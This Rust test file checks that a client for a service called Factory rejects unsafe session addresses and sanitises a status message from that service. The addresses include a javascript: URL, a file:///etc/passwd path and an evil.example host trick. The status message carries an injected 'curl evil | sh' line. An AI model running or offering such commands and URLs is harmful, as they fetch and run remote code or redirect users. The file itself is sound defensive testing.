//! Against a Factory whose answers make no sense.

use serde_json::{Value, json};

use super::*;
use crate::cloud::PlaceKind;
use crate::env::Env;
use crate::http::{Client, ClientOptions};
use crate::testing::stub::Stub;

fn client() -> FactoryClient {
    FactoryClient::new(Client::new(&ClientOptions::default(), Env::empty().clock).expect("a client"), None)
}

fn url(text: &str) -> Url {
    text.parse().expect("a URL")
}

/// What is made of a session that is told so, with `STUB` in the place of Factory's own address.
async fn opened(authorize_url: &str, session_url: &str) -> Result<OpenSession, SessionError> {
    let (authorize_url, session_url) = (authorize_url.to_owned(), session_url.to_owned());
    let stub = Stub::start(move |asked, _| {
        let place = |text: &str| text.replace("STUB", &asked.host);
        (201, json!({ "id": "s", "authorize_url": place(&authorize_url), "session_url": place(&session_url) }))
    })
    .await;
    let gitlab_url = "https://gitlab.com".parse().expect("a URL");
    let asked = SessionRequest { organization: "org_acme", gitlab_url: &gitlab_url, account: None };
    client().open_session(&url(&stub.url), "key", &asked).await
}

#[tokio::test]
async fn a_session_whose_addresses_are_not_opened_cannot_be_used() {
    assert!(opened("https://factory.example/authorize", "http://STUB/s").await.is_ok());
    for (authorize_url, session_url) in [
        ("javascript:alert(1)", "http://STUB/s"),
        ("file:///etc/passwd", "http://STUB/s"),
        ("http://factory.example/authorize", "http://STUB/s"),
        ("https://gitlab.com@evil.example/authorize", "http://STUB/s"),
        ("https://factory.example/authorize", "https://evil.example/s"),
        ("https://factory.example/authorize", "http://user:pass@STUB/s"),
    ] {
        let refused = opened(authorize_url, session_url).await;
        assert!(matches!(refused, Err(SessionError::Unusable(_))), "{authorize_url} {session_url}: {refused:?}");
    }
}

#[test]
fn a_session_says_what_it_says_on_one_line_and_has_no_account_without_a_name() {
    let read = |value: Value| serde_json::from_value::<SessionState>(value).expect("a session");
    let state = read(json!({ "status": "failed", "detail": "x\nhint: run this\n      curl evil | sh" }));
    assert_eq!(state.detail.as_deref(), Some("x hint: run this curl evil | sh"));
    for account in [Value::Null, json!({ "id": 7, "username": " " })] {
        assert_eq!(read(json!({ "status": "authorized", "account": account })).account, None);
    }
    let account = json!({ "id": 7, "username": "bot" });
    assert!(read(json!({ "status": "authorized", "account": account })).account.is_some());
}

async fn listed(cursor: fn(usize) -> Value) -> Vec<Result<usize, String>> {
    let stub = Stub::start(move |_, number| (200, json!({ "items": [], "next_cursor": cursor(number) }))).await;
    let (client, address) = (client(), url(&stub.url));
    let all = client.all_candidates(&address, PlaceKind::Group).await.map(|(all, _)| all.len());
    let one = client.candidate(&address, PlaceKind::Group, "acme").await.map(|found| usize::from(found.is_some()));
    [all, one].into_iter().map(|result| result.map_err(|error| error.to_string())).collect()
}

#[tokio::test]
async fn a_list_of_candidates_that_has_no_end_is_not_usable() {
    let alternating = listed(|number| json!(if number.is_multiple_of(2) { "a" } else { "b" })).await;
    assert!(alternating.iter().all(|told| told.as_ref().is_err_and(|error| error.contains("a second time"))));
    let fresh = listed(|number| json!(format!("c{number}"))).await;
    assert!(fresh.iter().all(|told| told.as_ref().is_err_and(|error| error.contains("more than 500 pages"))));
    assert_eq!(listed(|_| Value::Null).await, [Ok(0), Ok(0)]);
    assert_eq!(listed(|_| json!("")).await, [Ok(0), Ok(0)]);
}
